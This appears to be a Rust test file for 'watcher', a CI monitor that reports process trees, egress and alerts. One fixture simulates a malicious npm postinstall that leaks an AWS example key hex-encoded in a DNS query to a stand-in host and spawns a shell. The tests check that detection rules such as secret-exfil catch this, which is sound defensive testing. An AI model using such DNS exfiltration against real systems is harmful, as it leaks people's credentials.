//! End-of-step reports: golden outputs (text, JSON, Markdown, SARIF) of `watcher replay` over
//! fixture logs recorded with real `watcher run`s (tests/fixtures/reports, no root needed to
//! check them), colour only on a terminal, the GitHub job summary, and `watcher run --report`.
//!
//! Regenerate the goldens after an intended change: `UPDATE_GOLDEN=1 cargo test --release -p
//! watcher-tests --test report`, then review the diff. Re-record the fixture logs (root):
//! `WATCHER_RECORD_FIXTURES=1 cargo test --release -p watcher-tests --test report record_fixtures`.
use std::{
    path::{Path, PathBuf},
    process::{Command, Stdio},
};

use serde_json::Value;
use watcher_tests::{DnsServer, Listener, netprobe_bin, read_jsonl, root_or_skip, watcher_bin};

fn fixtures() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("fixtures").join("reports")
}

/// What varies between builds and machines, replaced by placeholders: watcher's own version
/// (SARIF names the tool's).
fn normalise(format: &str, out: &str) -> String {
    match format {
        "sarif" => {
            let mut v: Value = serde_json::from_str(out).expect("SARIF is JSON");
            for run in v["runs"].as_array_mut().expect("runs") {
                run["tool"]["driver"]["version"] = Value::from("<VERSION>");
            }
            serde_json::to_string_pretty(&v).unwrap() + "\n"
        }
        _ => out.to_string(),
    }
}

fn replay(format: &str, log: &str, env: &[(&str, &str)]) -> (Option<i32>, String, String) {
    let mut c = Command::new(watcher_bin());
    c.current_dir(fixtures())
        .args(["replay", "--policy", "policy.yaml", "--format", format, log])
        .env_remove("GITHUB_STEP_SUMMARY")
        .env_remove("NO_COLOR");
    for (k, v) in env {
        c.env(k, v);
    }
    let out = c.output().unwrap();
    (out.status.code(), String::from_utf8(out.stdout).unwrap(), String::from_utf8_lossy(&out.stderr).into_owned())
}

/// Compare with the golden file, or write it when UPDATE_GOLDEN=1.
fn golden(name: &str, actual: &str) {
    let path = fixtures().join("golden").join(name);
    if std::env::var_os("UPDATE_GOLDEN").is_some_and(|v| v == "1") {
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(&path, actual).unwrap();
        return;
    }
    let want = std::fs::read_to_string(&path)
        .unwrap_or_else(|e| panic!("{}: {e} (create it with UPDATE_GOLDEN=1)", path.display()));
    if want != actual {
        let diff: Vec<String> = want
            .lines()
            .zip(actual.lines())
            .enumerate()
            .filter(|(_, (a, b))| a != b)
            .take(5)
            .map(|(i, (a, b))| format!("line {}:\n  want: {a}\n  got:  {b}", i + 1))
            .collect();
        panic!(
            "{} differs from the output ({} vs {} lines):\n{}\n--- full output ---\n{actual}\n(regenerate with UPDATE_GOLDEN=1 if intended)",
            path.display(),
            want.lines().count(),
            actual.lines().count(),
            diff.join("\n")
        );
    }
}

const LOGS: &[(&str, i32)] = &[("alerts.jsonl", 77), ("clean.jsonl", 0), ("lost.jsonl", 77)];

#[test]
fn replay_reports_match_the_goldens() {
    for &(log, code) in LOGS {
        let stem = log.trim_end_matches(".jsonl");
        for (format, ext) in [("text", "txt"), ("json", "json"), ("markdown", "md"), ("sarif", "sarif")] {
            let (c, out, err) = replay(format, log, &[]);
            assert_eq!(c, Some(code), "{log} {format}: {err}");
            assert!(!out.contains('\x1b'), "{log} {format}: colour on a pipe");
            golden(&format!("{stem}.{ext}"), &normalise(format, &out));
        }
    }
}

#[test]
fn reports_carry_the_tree_destinations_and_alerts() {
    // Independently of the goldens: the facts the fixture is known to hold.
    let (_, out, _) = replay("json", "alerts.jsonl", &[]);
    let v: Value = serde_json::from_str(&out).unwrap();
    let r = &v["logs"][0];
    assert_eq!(r["verdict"], "flagged");
    assert_eq!(r["exit_code"], 0);
    assert_eq!(r["watcher_exit_code"], 77);
    let rules: Vec<&str> = r["alerts"].as_array().unwrap().iter().map(|a| a["rule"].as_str().unwrap()).collect();
    for rule in ["egress-denied", "dns-denied", "shell-from-install-script", "secret-exfil"] {
        assert!(rules.contains(&rule), "{rule} missing: {rules:?}");
    }
    assert!(
        r["alerts"]
            .as_array()
            .unwrap()
            .iter()
            .all(|a| a["package"].as_str().is_some_and(|p| p.starts_with("npm:evil-pkg@1.0.0")))
    );
    let procs = r["processes"].as_array().unwrap();
    assert!(procs.len() > 30, "the fixture has a big boring subtree");
    assert!(procs.iter().any(|p| p["install_script"]["package"] == "evil-pkg"));
    let dest = r["destinations"].as_array().unwrap();
    assert!(dest.iter().any(|d| d["names"][0] == "ok.watcher.test"), "{dest:?}");
    assert!(dest.iter().any(|d| d["names"].as_array().unwrap().is_empty()));
    // The text tree collapses the /bin/true loop but keeps the processes that did something.
    let (_, text, _) = replay("text", "alerts.jsonl", &[]);
    assert!(text.contains("more processes: true ×"), "{text}");
    assert!(text.lines().filter(|l| l.contains(" true")).count() < 5, "{text}");
    assert!(text.contains("netprobe") && text.contains("[npm:evil-pkg@1.0.0 (postinstall)]"), "{text}");
    // SARIF: one result per alert, every rule id is a declared rule with help.
    let (_, sarif, _) = replay("sarif", "alerts.jsonl", &[]);
    let s: Value = serde_json::from_str(&sarif).unwrap();
    assert_eq!(s["version"], "2.1.0");
    let run = &s["runs"][0];
    assert_eq!(run["results"].as_array().unwrap().len(), rules.len());
    let declared: Vec<&str> =
        run["tool"]["driver"]["rules"].as_array().unwrap().iter().map(|r| r["id"].as_str().unwrap()).collect();
    for res in run["results"].as_array().unwrap() {
        let id = res["ruleId"].as_str().unwrap();
        assert_eq!(declared[res["ruleIndex"].as_u64().unwrap() as usize], id);
        assert!(res["locations"][0]["physicalLocation"]["region"]["startLine"].as_u64().unwrap() > 1);
    }
    assert!(
        run["tool"]["driver"]["rules"]
            .as_array()
            .unwrap()
            .iter()
            .all(|r| r["help"]["text"].as_str().unwrap().len() > 40)
    );

    // Lost events: counted per source, an events-lost alert, said in every format.
    let (_, out, _) = replay("json", "lost.jsonl", &[]);
    let v: Value = serde_json::from_str(&out).unwrap();
    let lost = v["logs"][0]["lost"].as_u64().unwrap();
    assert!(lost > 0 && v["logs"][0]["lost_by_source"]["exec"].as_u64() == Some(lost), "{v:#}");
    assert_eq!(v["logs"][0]["alerts"][0]["rule"], "events-lost");
    let (_, text, _) = replay("text", "lost.jsonl", &[]);
    assert!(text.contains(&format!("LOST {lost} exec events")), "{text}");
    let (_, md, _) = replay("markdown", "lost.jsonl", &[]);
    assert!(md.contains("#### Lost events") && md.contains(&format!("| `exec` | {lost} |")), "{md}");
}

#[test]
fn colour_only_on_a_terminal_and_never_with_no_color() {
    // `script` gives the command a pseudo-terminal as stdout.
    let run = |no_color: Option<&str>| {
        let cmd = format!("{} replay --policy policy.yaml alerts.jsonl", watcher_bin().display());
        let mut c = Command::new("script");
        c.current_dir(fixtures()).args(["-qec", &cmd, "/dev/null"]).stdin(Stdio::null()).env_remove("NO_COLOR");
        if let Some(v) = no_color {
            c.env("NO_COLOR", v);
        }
        let out = c.output().expect("script(1) from util-linux");
        String::from_utf8_lossy(&out.stdout).into_owned()
    };
    let tty = run(None);
    assert!(tty.contains("\x1b[1;31m") && tty.contains("summary:"), "no colour on a terminal: {tty:?}");
    let no = run(Some("1"));
    assert!(no.contains("summary:") && !no.contains('\x1b'), "colour despite NO_COLOR: {no:?}");
    let (_, piped, _) = replay("text", "alerts.jsonl", &[]);
    assert!(!piped.contains('\x1b'));
}

#[test]
fn github_step_summary_gets_the_markdown_appended() {
    let dir = tempfile::tempdir().unwrap();
    let f = dir.path().join("summary.md");
    std::fs::write(&f, "# earlier step\n\n").unwrap();
    let (c, out, err) = replay("text", "alerts.jsonl", &[("GITHUB_STEP_SUMMARY", f.to_str().unwrap())]);
    assert_eq!(c, Some(77), "{err}");
    assert!(out.contains("summary:"));
    let (_, md, _) = replay("markdown", "alerts.jsonl", &[]);
    let got = std::fs::read_to_string(&f).unwrap();
    assert_eq!(got, format!("# earlier step\n\n{md}"));
    assert!(got.contains("<details><summary>Process tree"));
    // An unwritable summary file is a warning, not a failure of the step.
    let (c, _, err) = replay("text", "clean.jsonl", &[("GITHUB_STEP_SUMMARY", "/nonexistent-dir/x.md")]);
    assert_eq!(c, Some(0));
    assert!(err.contains("warning: cannot append the report to GITHUB_STEP_SUMMARY"), "{err}");
}

/// Re-record the fixture logs from real runs (root; only when WATCHER_RECORD_FIXTURES=1).
/// Paths of this machine are replaced by neutral ones so the fixtures do not depend on it.
#[test]
fn record_fixtures() {
    if std::env::var_os("WATCHER_RECORD_FIXTURES").is_none() || !root_or_skip() {
        return;
    }
    let dns_ip = "127.53.0.71";
    let _dns =
        DnsServer::start(dns_ip.parse().unwrap(), vec![("ok.watcher.test".into(), vec!["127.0.0.1".parse().unwrap()])])
            .unwrap();
    let ok = Listener::start("127.0.0.1:0".parse().unwrap()).unwrap();
    let other = Listener::start("127.0.0.2:0".parse().unwrap()).unwrap();
    let dir = tempfile::tempdir().unwrap();
    let policy = format!(
        "version: 1\npipeline: reports-fixture\nmode: audit\negress:\n  loopback: false\n  allow:\n    - host: ok.watcher.test\n      ports: [{}]\ndns:\n  resolvers: [{dns_ip}]\nsecrets:\n  env: [\"AWS_*\"]\n",
        ok.addr().port()
    );
    let pf = dir.path().join("policy.yaml");
    std::fs::write(&pf, &policy).unwrap();
    std::fs::write(fixtures().join("policy.yaml"), &policy).unwrap();
    let p = netprobe_bin().display().to_string();
    let ok_conn = format!("{p} dns-sendto {dns_ip} ok.watcher.test A tcp 127.0.0.1:{}", ok.addr().port());
    let scripts = [
        (
            "alerts.jsonl",
            format!(
                "{ok_conn} tcp {} dns-sendto {dns_ip} 414b4941494f53464f444e4e374558414d504c45.x.test A; sh -c true; for i in $(seq 40); do /bin/true; done",
                other.addr()
            ),
        ),
        ("clean.jsonl", format!("{ok_conn}; /bin/true")),
        // A one-page ring buffer and a burst of parallel execs: events are lost.
        ("lost.jsonl", "seq 60 | xargs -P 8 -n 1 /bin/true".to_string()),
    ];
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).parent().unwrap().to_path_buf();
    for (name, script) in scripts {
        let log = dir.path().join(name);
        let ringbuf = if name == "lost.jsonl" { "4K" } else { "16M" };
        let out = Command::new(watcher_bin())
            .args(["run", "-q", "--ringbuf-size", ringbuf, "--policy"])
            .arg(&pf)
            .arg("--log")
            .arg(&log)
            .args(["--", "sh", "-c", &script])
            .env("AWS_ACCESS_KEY_ID", "AKIAIOSFODNN7EXAMPLE")
            .env("npm_lifecycle_event", "postinstall")
            .env("npm_package_name", "evil-pkg")
            .env("npm_package_version", "1.0.0")
            .stdin(Stdio::null())
            .output()
            .unwrap();
        assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
        let text = std::fs::read_to_string(&log)
            .unwrap()
            .replace(&dir.path().display().to_string(), "/tmp/fixture")
            .replace(&netprobe_bin().parent().unwrap().display().to_string(), "/opt/watcher-tests/bin")
            .replace(&root.display().to_string(), "/src/watcher");
        std::fs::write(fixtures().join(name), text).unwrap();
    }
}

/// `watcher run --report FILE` writes the report (format by extension) without touching the
/// command's stdout, and appends Markdown to GITHUB_STEP_SUMMARY.
#[test]
fn run_writes_its_report_to_a_file_and_the_step_summary() {
    if !root_or_skip() {
        return;
    }
    let dns_ip = "127.53.0.72";
    let _dns =
        DnsServer::start(dns_ip.parse().unwrap(), vec![("ok.watcher.test".into(), vec!["127.0.0.1".parse().unwrap()])])
            .unwrap();
    let ok = Listener::start("127.0.0.1:0".parse().unwrap()).unwrap();
    let dir = tempfile::tempdir().unwrap();
    let pf = dir.path().join("p.yaml");
    std::fs::write(
        &pf,
        format!("version: 1\npipeline: rep\negress:\n  loopback: false\ndns:\n  resolvers: [{dns_ip}]\n"),
    )
    .unwrap();
    let p = netprobe_bin().display().to_string();
    let summary = dir.path().join("step-summary.md");
    for (file, format) in [("r.json", None), ("r.sarif", None), ("r.out", Some("markdown"))] {
        let report = dir.path().join(file);
        let log = dir.path().join(format!("{file}.jsonl"));
        let mut c = Command::new(watcher_bin());
        c.args(["run", "-q", "--policy"]).arg(&pf).arg("--log").arg(&log).arg("--report").arg(&report);
        if let Some(f) = format {
            c.args(["--report-format", f]);
        }
        let out = c
            .args([
                "--",
                "sh",
                "-c",
                &format!(
                    "echo hello-stdout; {p} dns-sendto {dns_ip} ok.watcher.test A tcp 127.0.0.1:{} >/dev/null",
                    ok.addr().port()
                ),
            ])
            .env("GITHUB_STEP_SUMMARY", &summary)
            .env_remove("NO_COLOR")
            .stdin(Stdio::null())
            .output()
            .unwrap();
        let err = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(0), "{err}");
        assert_eq!(String::from_utf8_lossy(&out.stdout), "hello-stdout\n", "stdout belongs to the command");
        assert!(err.contains("watcher: summary:") && err.contains("watcher: verdict: flagged"), "{err}");
        assert!(!err.contains('\x1b'), "colour on a pipe: {err}");
        let text = std::fs::read_to_string(&report).unwrap();
        match file {
            "r.json" => {
                let v: Value = serde_json::from_str(&text).unwrap();
                assert_eq!(v["verdict"], "flagged");
                assert_eq!(v["exit_code"], 0);
                assert!(
                    v["processes"]
                        .as_array()
                        .unwrap()
                        .iter()
                        .any(|p| p["filename"].as_str().is_some_and(|f| f.ends_with("netprobe")))
                );
                assert!(v["dns"].as_array().unwrap().iter().any(|d| d["name"] == "ok.watcher.test"));
                assert!(
                    v["destinations"]
                        .as_array()
                        .unwrap()
                        .iter()
                        .any(|d| d["names"][0] == "ok.watcher.test" && d["port"] == ok.addr().port())
                );
                // The alerts are exactly the ones in the log.
                let logged: Vec<Value> = read_jsonl(&log).into_iter().filter(|e| e["kind"] == "alert").collect();
                assert_eq!(v["alerts"].as_array().unwrap().len(), logged.len());
                assert!(!logged.is_empty());
            }
            "r.sarif" => {
                let v: Value = serde_json::from_str(&text).unwrap();
                assert_eq!(v["version"], "2.1.0");
                assert!(v["runs"][0]["results"].as_array().unwrap().iter().any(|r| r["ruleId"] == "egress-denied"));
            }
            _ => assert!(text.starts_with("### ❌ watcher: flagged"), "{text}"),
        }
    }
    let md = std::fs::read_to_string(&summary).unwrap();
    assert_eq!(md.matches("### ❌ watcher: flagged").count(), 3, "appended once per run: {md}");
    assert!(md.contains("| `127.0.0.1` |"), "{md}");
}

/// A policy allowing a registry the log recorded no hosts for: one warning naming it.
#[test]
fn replay_warns_about_a_registry_the_log_did_not_record() {
    let dir = tempfile::tempdir().unwrap();
    let p = dir.path().join("npm.yaml");
    let base = std::fs::read_to_string(fixtures().join("policy.yaml")).unwrap();
    std::fs::write(&p, base.replace("egress:\n", "egress:\n  registries: [npm]\n")).unwrap();
    let out = Command::new(watcher_bin())
        .current_dir(fixtures())
        .args(["replay", "--format", "json", "--policy"])
        .arg(&p)
        .arg("clean.jsonl")
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(0), "{err}");
    assert_eq!(err.matches("warning").count(), 1, "{err}");
    assert!(err.contains("clean.jsonl: the policy allows registry npm, but the log recorded no hosts for it"), "{err}");
}

/// `watcher run` colours its end-of-step report on a terminal stderr, not with NO_COLOR.
#[test]
fn run_colours_its_report_only_on_a_terminal() {
    if !root_or_skip() {
        return;
    }
    let run = |no_color: bool| {
        let cmd = format!("{} run -- /bin/true", watcher_bin().display());
        let mut c = Command::new("script");
        c.args(["-qec", &cmd, "/dev/null"])
            .stdin(Stdio::null())
            .env_remove("NO_COLOR")
            .env_remove("GITHUB_STEP_SUMMARY");
        if no_color {
            c.env("NO_COLOR", "1");
        }
        let out = c.output().expect("script(1) from util-linux");
        assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stdout));
        String::from_utf8_lossy(&out.stdout).into_owned()
    };
    let tty = run(false);
    assert!(tty.contains("\x1b[1msummary:") && tty.contains("\x1b[32mclean"), "{tty:?}");
    let plain = run(true);
    assert!(plain.contains("summary:") && plain.contains("verdict: clean") && !plain.contains('\x1b'), "{plain:?}");
}
